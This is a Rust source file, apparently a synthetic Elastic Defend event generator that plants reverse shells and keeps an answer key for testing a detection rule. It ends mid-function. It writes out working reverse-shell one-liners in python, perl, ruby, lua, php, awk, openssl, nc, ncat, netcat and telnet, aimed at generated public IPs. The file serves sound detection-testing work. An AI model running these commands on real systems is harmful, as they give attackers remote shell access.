//! A deterministic generator of realistic Elastic Defend events (the `eqlc-gen` binary),
//! with planted reverse shells for the seed rule and an answer key.
//!
//! Everything derives from the seed (SplitMix64); no external data. The stream is in
//! ascending `@timestamp` order and has exactly `events` lines:
//!
//! * background activity per host: process `exec`/`fork`/`end`, network
//!   `connection_attempted`/`connection_accepted`/`disconnect_received`, file
//!   `creation`/`modification`/`deletion`, by a changing population of processes with
//!   parents, users, args and sessions (about 1 KB per event). Background command lines
//!   are chosen so that none satisfies the seed rule's first stage;
//! * `shells` true positives: an `exec` (or `fork`) that satisfies one branch of the
//!   seed rule's first stage (cycling through python pty / python subprocess / perl /
//!   ruby / lua / php / awk / openssl / nc / ncat / netcat / telnet, parent a shell or
//!   interpreter of the rule's list), followed 20–950 ms later by a
//!   `connection_attempted` or `connection_accepted` of the same `process.entity_id` on
//!   the same host to a public address;
//! * `near_misses` pairs that must not alert (cycling through): loopback, link-local,
//!   multicast and `::1` destinations, a gap over 1 s, another entity, another host,
//!   `nc -z`, a parent outside the list, `gawk` (not in the second stage's list),
//!   `telnet` with two args, a `disconnect_received`, a python one-liner without pty,
//!   and (with `--os mixed`) a reverse shell on a macOS host.
//!
//! The answer key ([`Truth`]) lists, for every planted pair, its kind and the `event.id`s
//! of its events; the true positives are the alerts the seed rule must produce (as long
//! as at most `max_signals` = 100 of them fall in one 5-minute window).

use std::collections::BinaryHeap;
use std::io::{self, Write};

use crate::output::json_str;

/// Operating systems of the generated hosts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OsMix {
    /// Linux hosts only.
    Linux,
    /// Mostly Linux, with Windows and macOS hosts.
    Mixed,
}

/// Generator settings.
#[derive(Debug, Clone)]
pub struct GenConfig {
    /// Total number of events.
    pub events: u64,
    /// PRNG seed.
    pub seed: u64,
    /// Planted reverse shells (true positives).
    pub shells: u32,
    /// Planted near misses.
    pub near_misses: u32,
    /// Number of hosts.
    pub hosts: u32,
    /// Host operating systems.
    pub os: OsMix,
    /// Mean events per second of event time.
    pub rate: f64,
    /// Time of the first event, ns since the epoch.
    pub start_ns: i64,
}

impl Default for GenConfig {
    fn default() -> Self {
        GenConfig {
            events: 10_000,
            seed: 1,
            shells: 10,
            near_misses: 10,
            hosts: 50,
            os: OsMix::Linux,
            rate: 200.0,
            start_ns: 1_714_521_600_000_000_000, // 2024-05-01T00:00:00Z
        }
    }
}

/// One planted pair in the answer key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Planted {
    /// What it is (`python-pty`, `loopback`, ...).
    pub kind: String,
    /// Whether the seed rule must alert on it.
    pub alert: bool,
    /// `host.id` of its first event.
    pub host_id: String,
    /// `process.entity_id` of its first event.
    pub entity_id: String,
    /// `event.id`s of its events, in time order.
    pub event_ids: Vec<String>,
    /// Timestamps (ns) of its events.
    pub times: Vec<i64>,
}

/// The answer key of a generated stream.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Truth {
    /// Every planted pair, true positives and near misses, in planting order.
    pub planted: Vec<Planted>,
}

impl Truth {
    /// The true positives.
    pub fn alerts(&self) -> impl Iterator<Item = &Planted> {
        self.planted.iter().filter(|p| p.alert)
    }

    /// The key as JSON (one object, `{"rule_id", "alerts": [...], "near_misses": [...]}`).
    pub fn to_json(&self) -> String {
        let one = |p: &Planted| {
            serde_json::json!({
                "kind": p.kind, "host.id": p.host_id, "process.entity_id": p.entity_id,
                "event_ids": p.event_ids, "times_ns": p.times,
            })
        };
        serde_json::to_string_pretty(&serde_json::json!({
            "rule_id": SEED_RULE_ID,
            "alerts": self.planted.iter().filter(|p| p.alert).map(one).collect::<Vec<_>>(),
            "near_misses": self.planted.iter().filter(|p| !p.alert).map(one).collect::<Vec<_>>(),
        }))
        .unwrap_or_default()
    }
}

/// `rule_id` of the seed rule the planted shells target.
pub const SEED_RULE_ID: &str = "76e4d92b-61c1-4a95-ab61-5fd94179a1ee";

/// SplitMix64.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A generator from `seed`.
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x9e37_79b9_7f4a_7c15)
    }
    /// Next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (`n > 0`).
    pub fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n.max(1))) >> 64) as u64
    }
    /// Uniform in `[0, 1)`.
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
    /// One element of `xs`.
    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }
}

const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn base64(data: &[u8]) -> String {
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for c in data.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                out.push(B64[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Os {
    Linux,
    Windows,
    Macos,
}

#[derive(Debug, Clone)]
struct Host {
    id: String,
    name: String,
    os: Os,
    family: &'static str,
    version: &'static str,
    kernel: &'static str,
    ip: String,
    agent: String,
    procs: Vec<Proc>,
    next_pid: u32,
}

#[derive(Debug, Clone)]
struct Proc {
    entity: String,
    pid: u32,
    name: String,
    exe: String,
    args: Vec<String>,
    cwd: &'static str,
    user: (u32, &'static str),
    start: i64,
    parent: Option<Box<Proc>>,
}

const CWDS: &[&str] = &[
    "/",
    "/root",
    "/home/ubuntu",
    "/srv/app",
    "/var/www/html",
    "/tmp",
];

const USERS: &[(u32, &str)] = &[
    (0, "root"),
    (33, "www-data"),
    (1000, "ubuntu"),
    (1001, "deploy"),
    (998, "postgres"),
    (997, "nginx"),
];

/// Benign command lines (Linux): none satisfies the seed rule's first stage.
const BENIGN: &[(&str, &str, &[&str])] = &[
    (
        "ls",
        "/usr/bin/ls",
        &["ls", "--color=auto", "-la", "/var/log"],
    ),
    ("cat", "/usr/bin/cat", &["cat", "/etc/hosts"]),
    (
        "grep",
        "/usr/bin/grep",
        &["grep", "-r", "ERROR", "/var/log/app"],
    ),
    (
        "systemctl",
        "/usr/bin/systemctl",
        &["systemctl", "status", "nginx.service"],
    ),
    (
        "curl",
        "/usr/bin/curl",
        &["curl", "-fsSL", "https://api.example.com/v1/health"],
    ),
    (
        "python3",
        "/usr/bin/python3.10",
        &[
            "python3",
            "/opt/app/manage.py",
            "runworker",
            "--queue",
            "default",
        ],
    ),
    (
        "python3",
        "/usr/bin/python3.10",
        &[
            "python3",
            "-c",
            "import json,sys; print(json.load(sys.stdin)['version'])",
        ],
    ),
    ("perl", "/usr/bin/perl", &["perl", "-e", "print qq(ok\\n)"]),
    (
        "ruby",
        "/usr/bin/ruby3.0",
        &["ruby", "-e", "puts RUBY_VERSION"],
    ),
    (
        "php8.1",
        "/usr/bin/php8.1",
        &["php8.1", "-r", "echo phpversion();"],
    ),
    (
        "awk",
        "/usr/bin/awk",
        &["awk", "-F:", "{print $1}", "/etc/passwd"],
    ),
    ("nc", "/usr/bin/nc", &["nc", "-zv", "10.0.3.4", "22"]),
    (
        "openssl",
        "/usr/bin/openssl",
        &[
            "openssl",
            "x509",
            "-in",
            "/etc/ssl/certs/server.pem",
            "-noout",
            "-enddate",
        ],
    ),
    (
        "git",
        "/usr/bin/git",
        &["git", "pull", "--rebase", "origin", "main"],
    ),
    (
        "ssh",
        "/usr/bin/ssh",
        &["ssh", "-o", "BatchMode=yes", "deploy@10.0.3.4", "uptime"],
    ),
    (
        "tar",
        "/usr/bin/tar",
        &["tar", "-czf", "/backup/etc.tgz", "/etc"],
    ),
    ("apt-get", "/usr/bin/apt-get", &["apt-get", "-q", "update"]),
    (
        "node",
        "/usr/bin/node",
        &[
            "node",
            "--max-old-space-size=2048",
            "/srv/app/dist/server.js",
        ],
    ),
    (
        "java",
        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
        &[
            "java",
            "-Xms512m",
            "-Xmx2g",
            "-Dspring.profiles.active=prod",
            "-jar",
            "/opt/svc/app.jar",
        ],
    ),
    (
        "sh",
        "/usr/bin/dash",
        &[
            "/bin/sh",
            "-c",
            "/usr/lib/update-notifier/update-motd-updates-available",
        ],
    ),
    (
        "bash",
        "/usr/bin/bash",
        &["bash", "-lc", "cd /srv/app && ./bin/healthcheck"],
    ),
    (
        "sudo",
        "/usr/bin/sudo",
        &["sudo", "-n", "systemctl", "reload", "nginx"],
    ),
    (
        "ps",
        "/usr/bin/ps",
        &["ps", "-eo", "pid,ppid,cmd", "--sort=-%cpu"],
    ),
    (
        "find",
        "/usr/bin/find",
        &["find", "/tmp", "-type", "f", "-mtime", "+7", "-delete"],
    ),
    ("telnet", "/usr/bin/telnet", &["telnet"]),
];

const WIN_BENIGN: &[(&str, &str, &[&str])] = &[
    (
        "powershell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        &["powershell.exe", "-NoProfile", "-Command", "Get-Service"],
    ),
    (
        "cmd.exe",
        "C:\\Windows\\System32\\cmd.exe",
        &["cmd.exe", "/c", "dir", "C:\\Users"],
    ),
    (
        "svchost.exe",
        "C:\\Windows\\System32\\svchost.exe",
        &["svchost.exe", "-k", "netsvcs", "-p"],
    ),
    (
        "python.exe",
        "C:\\Python311\\python.exe",
        &["python.exe", "-c", "import pty; pty.spawn('cmd')"],
    ),
];

const MAC_BENIGN: &[(&str, &str, &[&str])] = &[
    ("zsh", "/bin/zsh", &["-zsh"]),
    (
        "mdworker",
        "/System/Library/Frameworks/CoreServices.framework/mdworker",
        &["mdworker", "-s", "mdworker"],
    ),
    (
        "python3",
        "/usr/bin/python3",
        &["python3", "-m", "http.server"],
    ),
];

const PUBLIC_NETS: &[&str] = &[
    "203.0.113.",
    "198.51.100.",
    "45.33.32.",
    "185.220.101.",
    "91.189.91.",
];

fn public_ip(r: &mut Rng) -> String {
    if r.chance(0.1) {
        format!("2001:db8:{:x}::{:x}", r.below(0xffff), 1 + r.below(0xfffe))
    } else {
        format!("{}{}", r.pick(PUBLIC_NETS), 1 + r.below(254))
    }
}

fn private_ip(r: &mut Rng) -> String {
    format!("10.{}.{}.{}", r.below(4), r.below(256), 1 + r.below(254))
}

/// Reverse-shell kinds (true positives): process name, executable, argv.
fn shell_kind(
    i: usize,
    ip: &str,
    port: u32,
) -> (&'static str, &'static str, &'static str, Vec<String>) {
    let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
    match i % 13 {
        0 => ("python-pty", "python3", "/usr/bin/python3.10", s(&["python3", "-c", &format!("import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/bash\")")])),
        1 => ("python-subprocess", "python2.7", "/usr/bin/python2.7", s(&["python2.7", "-c", &format!("import socket,subprocess,os;s=socket.socket();s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import subprocess;subprocess.call([\"/bin/sh\",\"-i\"])")])),
        2 => ("perl", "perl", "/usr/bin/perl", s(&["perl", "-e", &format!("use Socket;$i=\"{ip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");}};")])),
        3 => ("ruby", "ruby", "/usr/bin/ruby3.0", s(&["ruby", "-rsocket", "-e", &format!("f=TCPSocket.open(\"{ip}\",{port}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)")])),
        4 => ("lua", "lua5.3", "/usr/bin/lua5.3", s(&["lua5.3", "-e", &format!("require('socket');require('os');t=socket.tcp();t:connect('{ip}','{port}');os.execute('/bin/sh -i <&3 >&3 2>&3');")])),
        5 => ("php", "php8.1", "/usr/bin/php8.1", s(&["php8.1", "-r", &format!("$sock=fsockopen(\"{ip}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");")])),
        6 => ("awk", "awk", "/usr/bin/awk", s(&["awk", &format!("BEGIN {{s = \"/inet/tcp/0/{ip}/{port}\"; while(42) {{ do{{ printf \"shell>\" |& s; s |& getline c; if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c); }} }} while(c != \"exit\") close(s); }}}}")])),
        7 => ("openssl", "openssl", "/usr/bin/openssl", s(&["openssl", "s_client", "-quiet", "-connect", &format!("{ip}:{port}")])),
        8 => ("nc", "nc", "/usr/bin/nc.traditional", s(&["nc", "-e", "/bin/sh", ip, &port.to_string()])),
        9 => ("ncat", "ncat", "/usr/bin/ncat", s(&["ncat", ip, &port.to_string(), "-e", "/bin/bash"])),
        10 => ("netcat", "netcat", "/usr/bin/netcat", s(&["netcat", "-e", "/bin/bash", ip, &port.to_string()])),
        11 => ("telnet", "telnet", "/usr/bin/telnet", s(&["telnet", ip, &port.to_string()])),
        _ => ("python-fork", "python3", "/usr/bin/python3.10", s(&["python3", "-c", &format!("import os,pty,socket;s=socket.socket();s.connect((\"{ip}\",{port}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")")])),
    }
}

const SHELL_PARENTS: &[(&str, &str)] = &[
    ("bash", "/usr/bin/bash"),
    ("sh", "/usr/bin/dash"),
    ("dash", "/usr/bin/dash"),
    ("zsh", "/usr/bin/zsh"),
    ("python3", "/usr/bin/python3.10"),
    ("php-fpm8.1", "/usr/sbin/php-fpm8.1"),
    ("perl", "/usr/bin/perl"),
    ("ksh", "/usr/bin/ksh93"),
];

/// A pending event: (time, order) with its rendered line; `planted` events must be
/// emitted, others are optional background follow-ups.
#[derive(PartialEq, Eq, PartialOrd, Ord)]
struct Future {
    neg_ts: core::cmp::Reverse<(i64, u64)>,
    planted: bool,
    line: Vec<u8>,
}

struct Gen<'t> {
    cfg: GenConfig,
    r: Rng,
    hosts: Vec<Host>,
    seq: u64,
    ids: u64,
    heap: BinaryHeap<Future>,
    truth: Option<&'t mut Truth>,
}

fn key(out: &mut Vec<u8>, k: &str) {
    out.push(b'"');
    out.extend_from_slice(k.as_bytes());
    out.extend_from_slice(b"\":");
}

fn kv(out: &mut Vec<u8>, k: &str, v: &str) {
    key(out, k);
    json_str(out, v);
    out.push(b',');
}

fn kn(out: &mut Vec<u8>, k: &str, v: i64) {
    key(out, k);
    let _ = write!(out, "{v},");
}

fn close(out: &mut Vec<u8>, c: u8) {
    if out.last() == Some(&b',') {
        out.pop();
    }
    out.push(c);
    out.push(b',');
}

fn args_arr(out: &mut Vec<u8>, k: &str, args: &[String]) {
    key(out, k);
    out.push(b'[');
    for (i, a) in args.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        json_str(out, a);
    }
    out.extend_from_slice(b"],");
}

/// Format `ns` as RFC 3339 with `digits` fractional digits (6, 7 or 9; exact for
/// microsecond times).
fn ts_text(ns: i64, digits: usize) -> String {
    let mut s = String::new();
    let _ = eqlc_runtime::time::format_rfc3339(ns - ns.rem_euclid(1_000_000_000), &mut s);
    s.pop(); // 'Z'
    let frac = ns.rem_euclid(1_000_000_000);
    let f = format!("{frac:09}");
    s.push('.');
    s.push_str(&f[..digits]);
    s.push('Z');
    s
}

impl<'t> Gen<'t> {
    fn new(cfg: GenConfig, truth: Option<&'t mut Truth>) -> Gen<'t> {
        let mut r = Rng::new(cfg.seed);
        let mut hosts = Vec::new();
        for i in 0..cfg.hosts.max(1) {
            let os = match cfg.os {
                OsMix::Linux => Os::Linux,
                OsMix::Mixed => match r.below(10) {
                    0 | 1 => Os::Windows,
                    2 => Os::Macos,
                    _ => Os::Linux,
                },
            };
            let (family, version, kernel) = match os {
                Os::Linux => *r.pick(&[
                    ("ubuntu", "22.04", "5.15.0-105-generic"),
                    ("ubuntu", "20.04", "5.4.0-176-generic"),
                    ("debian", "12", "6.1.0-18-amd64"),
                    ("rhel", "9.3", "5.14.0-362.24.1.el9_3.x86_64"),
                ]),
                Os::Windows => ("windows", "10.0", "10.0.20348.2340"),
                Os::Macos => ("darwin", "14.4", "23.4.0"),
            };
            let role = r.pick(&["web", "db", "worker", "build", "bastion", "cache"]);
            hosts.push(Host {
                id: format!("{:016x}{:016x}", r.next_u64(), r.next_u64()),
                name: format!("{role}-{i:03}"),
                os,
                family,
                version,
                kernel,
                ip: private_ip(&mut r),
                agent: format!(
                    "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
                    r.next_u64() as u32,
                    r.next_u64() as u16,
                    r.below(0xfff),
                    r.below(0xfff),
                    r.next_u64() & 0xffff_ffff_ffff
                ),
                procs: Vec::new(),
                next_pid: 1000 + r.below(20_000) as u32,
            });
        }
        Gen {
            cfg,
            r,
            hosts,
            seq: 0,
            ids: 0,
            heap: BinaryHeap::new(),
            truth,
        }
    }

    fn new_id(&mut self) -> String {
        self.ids += 1;
        format!("gen-{:x}-{:08}", self.cfg.seed, self.ids)
    }

    fn new_proc(
        &mut self,
        h: usize,
        name: &str,
        exe: &str,
        args: Vec<String>,
        parent: Option<Proc>,
        t: i64,
    ) -> Proc {
        let host = &mut self.hosts[h];
        host.next_pid += 1 + self.r.below(40) as u32;
        let pid = host.next_pid;
        let entity = base64(format!("{}-{}-{}", host.agent, pid, t / 100).as_bytes());
        let user = if parent.is_some() && self.r.chance(0.7) {
            parent.as_ref().map_or(USERS[0], |p| p.user)
        } else {
            *self.r.pick(USERS)
        };
        Proc {
            entity,
            pid,
            name: name.to_string(),
            exe: exe.to_string(),
            args,
            cwd: CWDS[self.r.below(CWDS.len() as u64) as usize],
            user,
            start: t,
            parent: parent.map(|mut p| {
                p.parent = None;
                Box::new(p)
            }),
        }
    }

    fn base_proc(&mut self, h: usize, t: i64) -> Proc {
        let (name, exe, args): (&str, &str, &[&str]) = match self.hosts[h].os {
            Os::Linux => *self.r.pick(&[
                ("bash", "/usr/bin/bash", &["-bash"][..]),
                ("sshd", "/usr/sbin/sshd", &["sshd: ubuntu [priv]"][..]),
                ("cron", "/usr/sbin/cron", &["/usr/sbin/cron", "-f"][..]),
                (
                    "systemd",
                    "/usr/lib/systemd/systemd",
                    &["/sbin/init", "splash"][..],
                ),
                (
                    "sh",
                    "/usr/bin/dash",
                    &["/bin/sh", "-c", "run-parts /etc/cron.hourly"][..],
                ),
            ]),
            Os::Windows => (
                "explorer.exe",
                "C:\\Windows\\explorer.exe",
                &["explorer.exe"][..],
            ),
            Os::Macos => ("launchd", "/sbin/launchd", &["/sbin/launchd"][..]),
        };
        let args = args.iter().map(|s| s.to_string()).collect();
        self.new_proc(h, name, exe, args, None, t - 1_000_000_000)
    }

    /// Write the fields every event shares, up to and including `host` and `agent`.
    fn head(&mut self, out: &mut Vec<u8>, h: usize, t: i64, id: &str, dataset: &str) {
        let digits = match self.r.below(10) {
            0 => 6,
            1 => 9,
            _ => 7,
        };
        out.push(b'{');
        kv(out, "@timestamp", &ts_text(t, digits));
        let host = &self.hosts[h];
        key(out, "agent");
        out.push(b'{');
        kv(out, "id", &host.agent);
        kv(out, "type", "endpoint");
        kv(out, "version", "8.15.0");
        close(out, b'}');
        key(out, "ecs");
        out.extend_from_slice(b"{\"version\":\"8.11.0\"},");
        key(out, "data_stream");
        out.push(b'{');
        kv(out, "dataset", dataset);
        kv(out, "namespace", "default");
        kv(out, "type", "logs");
        close(out, b'}');
        key(out, "host");
        out.push(b'{');
        kv(out, "id", &host.id);
        kv(out, "name", &host.name);
        kv(out, "hostname", &host.name);
        kv(out, "architecture", "x86_64");
        key(out, "ip");
        out.push(b'[');
        json_str(out, &host.ip);
        out.extend_from_slice(b",\"127.0.0.1\"],");
        key(out, "os");
        out.push(b'{');
        let (ty, name) = match host.os {
            Os::Linux => ("linux", "Linux"),
            Os::Windows => ("windows", "Windows"),
            Os::Macos => ("macos", "macOS"),
        };
        kv(out, "type", ty);
        kv(out, "name", name);
        kv(out, "family", host.family);
        kv(out, "platform", host.family);
        kv(out, "version", host.version);
        kv(out, "kernel", host.kernel);
        close(out, b'}');
        close(out, b'}');
        let _ = id;
    }

    fn event_obj(
        out: &mut Vec<u8>,
        id: &str,
        action: &str,
        cat: &str,
        ty: &str,
        dataset: &str,
        seq: u64,
    ) {
        key(out, "event");
        out.push(b'{');
        kv(out, "id", id);
        kv(out, "action", action);
        key(out, "category");
        out.push(b'[');
        json_str(out, cat);
        out.extend_from_slice(b"],");
        key(out, "type");
        out.push(b'[');
        json_str(out, ty);
        out.extend_from_slice(b"],");
        kv(out, "kind", "event");
        kv(out, "module", "endpoint");
        kv(out, "dataset", dataset);
        kn(out, "sequence", seq as i64);
        close(out, b'}');
    }

    fn proc_obj(out: &mut Vec<u8>, p: &Proc, full: bool) {
        key(out, "process");
        out.push(b'{');
        kv(out, "entity_id", &p.entity);
        kn(out, "pid", i64::from(p.pid));
        kv(out, "name", &p.name);
        kv(out, "executable", &p.exe);
        if full {
            args_arr(out, "args", &p.args);
            kn(out, "args_count", p.args.len() as i64);
            kv(out, "command_line", &p.args.join(" "));
            kv(out, "working_directory", p.cwd);
            let mut t = String::new();
            let _ = eqlc_runtime::time::format_rfc3339(p.start - p.start % 1_000_000, &mut t);
            kv(out, "start", &t);
            key(out, "user");
            out.push(b'{');
            kv(out, "id", &p.user.0.to_string());
            kv(out, "name", p.user.1);
            close(out, b'}');
            if let Some(pp) = &p.parent {
                key(out, "parent");
                out.push(b'{');
                kv(out, "entity_id", &pp.entity);
                kn(out, "pid", i64::from(pp.pid));
                kv(out, "name", &pp.name);
                kv(out, "executable", &pp.exe);
                args_arr(out, "args", &pp.args);
                kn(out, "args_count", pp.args.len() as i64);
                kv(out, "command_line", &pp.args.join(" "));
                close(out, b'}');
                key(out, "group_leader");
                out.push(b'{');
                kv(out, "entity_id", &pp.entity);
                kn(out, "pid", i64::from(pp.pid));
                kv(out, "name", &pp.name);
                close(out, b'}');
            }
            key(out, "session_leader");
            out.push(b'{');
            let sl = p.parent.as_deref().unwrap_or(p);
            kv(out, "entity_id", &sl.entity);
            kn(out, "pid", i64::from(sl.pid));
            kv(out, "name", &sl.name);
            close(out, b'}');
        }
        close(out, b'}');
    }

    fn user_obj(out: &mut Vec<u8>, u: (u32, &str)) {
        key(out, "user");
        out.push(b'{');
        // user.id as a string like Defend 8.x (some producers send a number)
        kv(out, "id", &u.0.to_string());
        kv(out, "name", u.1);
        close(out, b'}');
    }

    fn finish(out: &mut Vec<u8>, message: &str) {
        kv(out, "message", message);
        if out.last() == Some(&b',') {
            out.pop();
        }
        out.extend_from_slice(b"}\n");
    }

    fn process_event(&mut self, h: usize, p: &Proc, t: i64, action: &str) -> (String, Vec<u8>) {
        let id = self.new_id();
        self.seq += 1;
        let mut out = Vec::with_capacity(1400);
        self.head(&mut out, h, t, &id, "endpoint.events.process");
        let ty = if action == "end" { "end" } else { "start" };
        Self::event_obj(
            &mut out,
            &id,
            action,
            "process",
            ty,
            "endpoint.events.process",
            self.seq,
        );
        Self::proc_obj(&mut out, p, true);
        if action == "end" {
            out.truncate(out.len() - 2); // reopen process object: "},"
            out.extend_from_slice(b",\"exit_code\":0},");
        }
        Self::user_obj(&mut out, p.user);
        key(&mut out, "group");
        out.push(b'{');
        kv(&mut out, "id", &p.user.0.to_string());
        kv(&mut out, "name", p.user.1);
        close(&mut out, b'}');
        Self::finish(&mut out, "Endpoint process event");
        (id, out)
    }

    #[allow(clippy::too_many_arguments)]
    fn network_event(
        &mut self,
        h: usize,
        p: &Proc,
        t: i64,
        action: &str,
        dst: &str,
        port: u32,
    ) -> (String, Vec<u8>) {
        let id = self.new_id();
        self.seq += 1;
        let mut out = Vec::with_capacity(1200);
        self.head(&mut out, h, t, &id, "endpoint.events.network");
        let ty = if action.starts_with("disconnect") {
            "end"
        } else {
            "start"
        };
        Self::event_obj(
            &mut out,
            &id,
            action,
            "network",
            ty,
            "endpoint.events.network",
            self.seq,
        );
        Self::proc_obj(&mut out, p, false);
        let sport = 32768 + self.r.below(28000) as i64;
        let v6 = dst.contains(':');
        let src = if v6 {
            "fd00::5".to_string()
        } else {
            self.hosts[h].ip.clone()
        };
        key(&mut out, "source");
        out.push(b'{');
        kv(&mut out, "ip", &src);
        kn(&mut out, "port", sport);
        kv(&mut out, "address", &src);
        close(&mut out, b'}');
        key(&mut out, "destination");
        out.push(b'{');
        kv(&mut out, "ip", dst);
        kn(&mut out, "port", i64::from(port));
        kv(&mut out, "address", dst);
        close(&mut out, b'}');
        key(&mut out, "network");
        out.push(b'{');
        kv(
            &mut out,
            "direction",
            if action == "connection_accepted" {
                "ingress"
            } else {
                "egress"
            },
        );
        kv(&mut out, "transport", "tcp");
        kv(&mut out, "type", if v6 { "ipv6" } else { "ipv4" });
        close(&mut out, b'}');
        Self::user_obj(&mut out, p.user);
        Self::finish(&mut out, "Endpoint network event");
        (id, out)
    }

    fn file_event(&mut self, h: usize, p: &Proc, t: i64) -> Vec<u8> {
        let id = self.new_id();
        self.seq += 1;
        let mut out = Vec::with_capacity(1200);
        self.head(&mut out, h, t, &id, "endpoint.events.file");
        let (action, ty) = *self.r.pick(&[
            ("creation", "creation"),
            ("modification", "change"),
            ("deletion", "deletion"),
            ("rename", "change"),
        ]);
        Self::event_obj(
            &mut out,
            &id,
            action,
            "file",
            ty,
            "endpoint.events.file",
            self.seq,
        );
        Self::proc_obj(&mut out, p, false);
        let (dir, name, ext) = *self.r.pick(&[
            ("/var/log/app", "app.log", "log"),
            ("/tmp", "tmp.k3j2h1", ""),
            ("/etc/nginx/conf.d", "site.conf", "conf"),
            ("/srv/app/cache", "index.json", "json"),
            ("/home/ubuntu/.bash_history", ".bash_history", ""),
        ]);
        key(&mut out, "file");
        out.push(b'{');
        kv(&mut out, "path", &format!("{dir}/{name}"));
        kv(&mut out, "name", name);
        if !ext.is_empty() {
            kv(&mut out, "extension", ext);
        }
        kn(&mut out, "size", self.r.below(1 << 20) as i64);
        close(&mut out, b'}');
        Self::user_obj(&mut out, p.user);
        Self::finish(&mut out, "Endpoint file event");
        out
    }

    fn push_future(&mut self, t: i64, planted: bool, line: Vec<u8>) {
        let order = self.ids;
        self.heap.push(Future {
            neg_ts: core::cmp::Reverse((t, order)),
            planted,
            line,
        });
    }

    /// One background event at time `t` on a random host; may schedule follow-ups.
    fn background(&mut self, t: i64) -> Vec<u8> {
        let h = self.r.below(self.hosts.len() as u64) as usize;
        if self.hosts[h].procs.len() < 4 {
            let b = self.base_proc(h, t);
            self.hosts[h].procs.push(b);
        }
        let n = self.hosts[h].procs.len() as u64;
        let roll = self.r.below(100);
        let os = self.hosts[h].os;
        if roll < 40 {
            // exec (or fork) of a new process
            let parent = self.hosts[h].procs[self.r.below(n) as usize].clone();
            let catalog = match os {
                Os::Linux => BENIGN,
                Os::Windows => WIN_BENIGN,
                Os::Macos => MAC_BENIGN,
            };
            let (name, exe, args) = *self.r.pick(catalog);
            let fork = os == Os::Linux && self.r.chance(0.15);
            let (name, exe, args) = if fork {
                (parent.name.clone(), parent.exe.clone(), parent.args.clone())
            } else {
                (
                    name.to_string(),
                    exe.to_string(),
                    args.iter().map(|s| s.to_string()).collect(),
                )
            };
            let p = self.new_proc(h, &name, &exe, args, Some(parent), t);
            let (_, line) = self.process_event(h, &p, t, if fork { "fork" } else { "exec" });
            // the process ends some time later
            if self.r.chance(0.5) {
                let end = t + 5_000_000 + self.r.below(20_000_000_000) as i64;
                let end = end - end % 1000;
                let (_, l) = self.process_event(h, &p, end, "end");
                self.push_future(end, false, l);
            }
            let procs = &mut self.hosts[h].procs;
            if procs.len() >= 48 {
                let i = 4 + (self.r.below(44) as usize);
                procs[i] = p;
            } else {
                procs.push(p);
            }
            line
        } else if roll < 75 {
            let p = self.hosts[h].procs[self.r.below(n) as usize].clone();
            let action = *self.r.pick(&[
                "connection_attempted",
                "connection_attempted",
                "connection_accepted",
                "disconnect_received",
            ]);
            let (dst, port) = if self.r.chance(0.5) {
                (
                    private_ip(&mut self.r),
                    *self.r.pick(&[22u32, 443, 5432, 6379, 8080]),
                )
            } else {
                (public_ip(&mut self.r), *self.r.pick(&[443u32, 80, 53, 123]))
            };
            self.network_event(h, &p, t, action, &dst, port).1
        } else {
            let p = self.hosts[h].procs[self.r.below(n) as usize].clone();
            self.file_event(h, &p, t)
        }
    }

    /// Plant scenario `j` (true positive when `tp`) starting at `t`.
    fn plant(&mut self, j: usize, tp: bool, t: i64) {
        let linux: Vec<usize> = (0..self.hosts.len())
            .filter(|&i| self.hosts[i].os == Os::Linux)
            .collect();
        let h = if linux.is_empty() {
            0
        } else {
            *self.r.pick(&linux)
        };
        let ip = public_ip(&mut self.r);
        let port = *self.r.pick(&[4444u32, 443, 1337, 9001, 8443, 53]);
        let gap = 20_000_000 + self.r.below(930_000) as i64 * 1000; // 20–950 ms, µs steps
        let (pname, pexe) = *self.r.pick(SHELL_PARENTS);
